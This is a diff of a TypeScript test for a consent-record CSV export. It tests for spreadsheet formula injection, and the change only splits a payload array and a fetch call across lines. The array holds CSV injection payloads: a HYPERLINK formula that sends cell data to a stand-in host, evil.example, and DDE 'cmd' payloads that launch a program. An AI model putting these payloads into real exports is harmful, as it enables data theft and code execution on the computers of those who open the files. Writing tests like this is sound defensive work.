@@ -10,7 +10,15 @@ const TOKEN = 'test-admin-token-0123456789';
 const admin = { authorization: `Bearer ${TOKEN}` };
 // What Excel, LibreOffice and Google Sheets run as a formula when a cell starts with it.
 const FORMULA_START = /^[=+\-@\t\r]/;
-const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1,"2"\r\n=3'];
+const HOSTILE = [
+  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '=1,"2"\r\n=3',
+];
 
 /** RFC 4180, as a spreadsheet reads it: quoted cells may hold commas, quotes ("") and line breaks. */
 function parseCsv(text: string): string[][] {
@@ -59,7 +67,11 @@ describe(`CSV export on ${sqlite!.name}`, () => {
     server = await createReceiver({ db: db.url, adminToken: TOKEN }).listen({ port: 0 });
     const texts = [...HOSTILE, 'Accept all'];
     const hash = await textHash(texts, async () => sha256);
-    const put = await fetch(`${server.url}/admin/texts/${encodeURIComponent(hash)}`, { method: 'PUT', headers: { ...admin, 'content-type': 'application/json' }, body: JSON.stringify({ language: 'en', revision: 1, texts }) });
+    const put = await fetch(`${server.url}/admin/texts/${encodeURIComponent(hash)}`, {
+      method: 'PUT',
+      headers: { ...admin, 'content-type': 'application/json' },
+      body: JSON.stringify({ language: 'en', revision: 1, texts }),
+    });
     expect(put.status).toBe(201);
     const records = HOSTILE.map((name) =>
       makeRecord({ textHash: hash, categories: { necessary: true, [name]: true }, services: { [name]: { [name]: false } } }),
